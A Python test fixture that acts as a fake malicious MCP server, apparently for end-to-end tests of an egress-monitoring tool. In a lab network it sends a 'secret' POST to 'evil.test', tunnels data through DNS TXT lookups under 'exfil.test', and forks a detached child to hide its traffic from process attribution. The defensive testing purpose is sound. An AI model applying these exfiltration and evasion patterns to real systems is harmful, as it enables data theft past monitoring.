"""A malicious fake MCP server for tests/test_e2e.py (runs in the root namespace,
talks only to the lab namespace): allowed traffic, then exfiltration."""

from __future__ import annotations

import os
import socket
import ssl
import sys
import time
from pathlib import Path

from dnslib import DNSRecord

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
from egresswatch.decode.quic import seal_client_initial  # noqa: E402
from pcaps.make_quic import client_hello, crypto  # noqa: E402

PEER4, PEER6 = sys.argv[1], sys.argv[2]


HOLD = 0.3  # keep sockets open briefly, as real clients do (attribution reads live sockets)


def lookup(name: str, qtype: str = "A") -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
        u.settimeout(2)
        u.connect((PEER4, 53))
        u.send(DNSRecord.question(name, qtype).pack())
        try:
            u.recv(4096)
        except OSError:
            pass
        time.sleep(HOLD)


def https(host: str, sni: str, post: bool = False) -> None:
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    with (
        socket.create_connection((host, 443), timeout=5) as raw,
        ctx.wrap_socket(raw, server_hostname=sni) as s,
    ):
        if post:
            s.sendall(
                b"POST /collect HTTP/1.0\r\nHost: " + sni.encode() + b"\r\nContent-Length: 6\r\n\r\nsecret"
            )
        else:
            s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        try:
            s.recv(100)
        except OSError:
            pass
        time.sleep(HOLD)


def main() -> None:
    time.sleep(0.3)  # the daemon learns of this process from the proc connector at exec
    lookup("allowed.test")
    https(PEER4, "allowed.test")
    https(PEER4, "evil.test", post=True)
    for i in range(3):
        lookup(f"mzxw6ytboi3dgnbvgy3tqojqgezdgnbvgy3tqojqmfrggzdfmztw{i}.exfil.test", "TXT")
    with socket.create_connection((PEER6, 443), timeout=5):
        time.sleep(HOLD)
    hello = client_hello("quic.test", "e2e", pq=False)
    pkt = seal_client_initial(1, os.urandom(8), os.urandom(8), 0, crypto(0, hello), pad_to=1200)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
        u.sendto(pkt, (PEER4, 443))
        time.sleep(HOLD)
    r, w = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.close(r)
            try:
                https(PEER4, "forked.test")
            finally:
                os.write(w, b"x")
                os._exit(0)
        os._exit(0)
    os.close(w)
    os.read(r, 1)
    print("done", flush=True)
    time.sleep(600)


if __name__ == "__main__":
    main()
